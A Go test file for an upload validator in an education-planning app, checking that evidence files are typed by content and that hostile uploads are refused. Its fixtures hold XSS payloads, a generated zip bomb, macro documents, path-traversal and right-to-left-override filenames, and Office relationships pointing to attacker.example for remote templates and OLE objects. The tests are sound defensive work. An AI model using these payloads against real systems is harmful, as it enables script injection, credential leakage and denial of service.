package supervision_test

import (
	"archive/zip"
	"bytes"
	"context"
	"io"
	"strings"
	"testing"

	"github.com/yantai-edu/eduplan/internal/plan"
	sv "github.com/yantai-edu/eduplan/internal/supervision"
)

// office returns an Office Open XML document made of the parts given (name → content).
func office(t *testing.T, parts map[string][]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, name := range []string{"[Content_Types].xml", "word/document.xml", "xl/workbook.xml", "word/vbaProject.bin", "word/media/big.bin"} {
		data, ok := parts[name]
		if !ok {
			continue
		}
		w, err := zw.Create(name)
		must(t, err)
		if name == "word/media/big.bin" { // the bomb: 32 MiB of zeros, written as they are made
			_, err = io.Copy(w, &endless{n: 32 << 20})
		} else {
			_, err = w.Write(data)
		}
		must(t, err)
	}
	must(t, zw.Close())
	return b.Bytes()
}

// endless is n bytes of zeros, made as they are read: an upload larger than anything
// held in memory.
type endless struct{ n, read int64 }

func (e *endless) Read(p []byte) (int, error) {
	if e.read >= e.n {
		return 0, io.EOF
	}
	k := min(int64(len(p)), e.n-e.read)
	clear(p[:k])
	e.read += k
	return int(k), nil
}

// TestEvidenceHostile: evidence is typed by its content; what could run in a browser,
// what expands without bound and what is larger than the bound are refused.
func TestEvidenceHostile(t *testing.T) {
	types := []byte(`<?xml version="1.0"?><Types/>`)
	docx := office(t, map[string][]byte{"[Content_Types].xml": types, "word/document.xml": []byte("<w:document/>")})
	// A zip bomb: one part of 32 MiB of zeros, some 32 KB compressed.
	bomb := office(t, map[string][]byte{"[Content_Types].xml": types, "word/document.xml": []byte("<w/>"), "word/media/big.bin": nil})
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	pdfData := []byte("%PDF-1.7\n%%EOF\n")
	for _, c := range []struct {
		name string
		data []byte
		want string // the type accepted, or "" when refused
		says string // a word the refusal says
	}{
		{"报告.pdf", pdfData, sv.TypePDF, ""},
		{"scan", png, sv.TypePNG, ""},
		{"照片.JPG", []byte("\xff\xd8\xff\xe0\x00\x10JFIF"), sv.TypeJPEG, ""},
		{"方案.docx", docx, sv.TypeDOCX, ""},
		{"x.html", []byte("<!doctype html><script>alert(1)</script>"), "", "HTML"},
		{"logo.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "", "SVG"},
		{"photo.png", []byte("\ufeff  <svg onload=alert(1)>"), "", "SVG"},
		{"report.png", pdfData, "", "PDF"},
		{"run.js", []byte("alert(document.cookie)"), "", "only PDF"},
		{"a.doc", []byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest"), "", "macros"},
		{"bomb.docx", bomb, "", "zip bomb"},
		{"m.docm", office(t, map[string][]byte{"[Content_Types].xml": types, "word/document.xml": nil, "word/vbaProject.bin": []byte("x")}), "", "macros"},
		{"a.zip", office(t, map[string][]byte{"xl/workbook.xml": nil}), "", "Office"},
		{"broken.docx", []byte("PK\x03\x04garbage"), "", "damaged"},
		{"empty.pdf", nil, "", "empty"},
	} {
		_, typ, _, err := sv.CheckEvidence(sv.File{Name: c.name, R: bytes.NewReader(c.data)})
		if c.want != "" {
			if err != nil || typ != c.want {
				t.Errorf("%s: %q, %v; want %s", c.name, typ, err, c.want)
			}
			continue
		}
		if err == nil {
			t.Errorf("%s: accepted as %s", c.name, typ)
			continue
		}
		zh, en := plan.ErrorMessages(err)
		if plan.ErrorCode(err) != plan.EINVALID || !strings.Contains(en, c.says) || zh == en {
			t.Errorf("%s: %s %q / %q, want EINVALID saying %q", c.name, plan.ErrorCode(err), zh, en, c.says)
		}
	}
	if len(bomb) > 1<<20 {
		t.Errorf("the bomb is %d bytes compressed", len(bomb))
	}
}

// TestEvidenceOversize: a 2 GB upload is refused after reading just past the bound.
func TestEvidenceOversize(t *testing.T) {
	big := &endless{n: 2 << 30}
	_, _, _, err := sv.CheckEvidence(sv.File{Name: "scan.pdf", R: io.MultiReader(strings.NewReader("%PDF-1.4\n"), big)})
	if plan.ErrorCode(err) != plan.EINVALID {
		t.Fatalf("2 GB: %v", err)
	}
	if big.read > sv.EvidenceMax+1<<20 {
		t.Errorf("read %d bytes of 2 GB, bound %d", big.read, sv.EvidenceMax)
	}
}

// TestEvidenceScope: evidence is read within the scope of the org it was filed for.
func TestEvidenceScope(t *testing.T) {
	ctx := context.Background()
	l := newLoop(t)
	c, err := l.ReportCase(ctx, clerk, sv.CaseReport{Type: "safety_hazard", Org: "K1", Title: "电线老化", Due: "2027-01-31",
		Fields: map[string]string{"risk": "general", "responsible": "K1"}, Files: []sv.File{pdf("照片.pdf")}})
	must(t, err)
	v, err := l.CaseDetail(ctx, clerk, c.ID)
	must(t, err)
	if len(v.Evidence) != 1 {
		t.Fatalf("evidence %+v", v.Evidence)
	}
	id := v.Evidence[0].ID
	for _, a := range []sv.Actor{clerk, officer, inspector} {
		e, err := l.Evidence(ctx, a, id)
		if err != nil || e.MediaType != sv.TypePDF || len(e.Data) != int(e.Size) || len(e.SHA256) != 64 {
			t.Errorf("%s: %v %+v", a.User, err, e)
		}
	}
	if _, err := l.Evidence(ctx, muping, id); plan.ErrorCode(err) != plan.ENOTFOUND {
		t.Errorf("Muping reads K1's evidence: %v", err)
	}
}

// TestEvidenceName: the name an evidence file is stored, shown and downloaded under is
// its last path element, valid UTF-8 without control or format characters (a
// right-to-left override would show "evil‮fdp.exe" as "evilexe.pdf"), at most 200 bytes
// cut between characters with its extension kept, and ends in the extension of the type
// its content has, so that a PDF uploaded as .html is saved as a PDF.
func TestEvidenceName(t *testing.T) {
	pdfData := []byte("%PDF-1.7\n%%EOF\n")
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
	long := strings.Repeat("报告", 150) // 900 bytes
	for _, c := range []struct {
		name string
		data []byte
		want string
	}{
		{"报告.pdf", pdfData, "报告.pdf"},
		{"照片.JPG", []byte("\xff\xd8\xff\xe0\x00\x10JFIF"), "照片.JPG"},
		{"scan", png, "scan.png"},
		{"../../etc/passwd.pdf", pdfData, "passwd.pdf"},
		{`C:\Users\a\证明.pdf`, pdfData, "证明.pdf"},
		{"evil\u202efdp.exe", pdfData, "evilfdp.exe.pdf"},
		{"poly.html", pdfData, "poly.html.pdf"},
		{"a\x00b\r\nc\u200b.pdf", pdfData, "abc.pdf"},
		{"\xff\xfe名.pdf", pdfData, "名.pdf"},
		{"\u202e", pdfData, "evidence.pdf"},
		{"..", pdfData, "evidence.pdf"},
		{long + ".pdf", pdfData, long[:195] + ".pdf"},
		{long, pdfData, long[:195] + ".pdf"},
	} {
		name, _, _, err := sv.CheckEvidence(sv.File{Name: c.name, R: bytes.NewReader(c.data)})
		if err != nil || name != c.want {
			t.Errorf("%q: stored as %q, %v; want %q", c.name, name, err, c.want)
		}
	}
}

// TestEvidenceExternalParts: an Office document that would fetch something when opened
// (a remote template, an OLE object or frame linked by URL: relationships with
// TargetMode="External" of any type but a hyperlink, which waits for a click) is
// refused; hyperlinks are kept.
func TestEvidenceExternalParts(t *testing.T) {
	doc := func(rels string) []byte {
		var b bytes.Buffer
		zw := zip.NewWriter(&b)
		for _, p := range []struct{ name, data string }{
			{"[Content_Types].xml", `<?xml version="1.0"?><Types/>`},
			{"word/document.xml", "<w:document/>"},
			{"word/_rels/document.xml.rels", rels},
		} {
			w, err := zw.Create(p.name)
			must(t, err)
			_, err = w.Write([]byte(p.data))
			must(t, err)
		}
		must(t, zw.Close())
		return b.Bytes()
	}
	const ns = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	const typ = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	for _, c := range []struct {
		name, rels string
		ok         bool
	}{
		{"hyperlink", ns + `<Relationship Id="rId1" Type="` + typ + `hyperlink" Target="https://www.yantai.gov.cn/" TargetMode="External"/></Relationships>`, true},
		{"internal image", ns + `<Relationship Id="rId1" Type="` + typ + `image" Target="media/image1.png"/></Relationships>`, true},
		{"remote template", ns + `<Relationship Id="rId1" Type="` + typ + `attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>`, false},
		{"ole object by mhtml", ns + `<Relationship Id="rId1" Type="` + typ + `oleObject" Target="mhtml:http://attacker.example/x!x-usc:x" TargetMode="External"/></Relationships>`, false},
		{"linked image", ns + `<Relationship Id="rId1" Type="` + typ + `image" Target="\\attacker.example\share\a.png" TargetMode="external"/></Relationships>`, false},
		{"broken rels", ns + `<Relationship`, false},
	} {
		_, typ, _, err := sv.CheckEvidence(sv.File{Name: "方案.docx", R: bytes.NewReader(doc(c.rels))})
		if c.ok {
			if err != nil || typ != sv.TypeDOCX {
				t.Errorf("%s: %q, %v; want accepted", c.name, typ, err)
			}
			continue
		}
		zh, en := plan.ErrorMessages(err)
		if plan.ErrorCode(err) != plan.EINVALID || zh == en {
			t.Errorf("%s: accepted (%q, %v); want refused in both languages", c.name, typ, err)
		}
	}
}
